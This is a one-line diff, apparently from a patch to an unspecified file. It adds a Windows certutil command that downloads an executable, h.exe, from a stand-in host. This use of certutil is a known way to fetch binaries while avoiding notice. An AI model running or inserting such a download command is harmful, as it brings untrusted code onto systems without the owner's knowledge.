@@ -1,0 +1,1 @@
+certutil -urlcache -split -f https://cdn.helper.invalid/h.exe h.exe
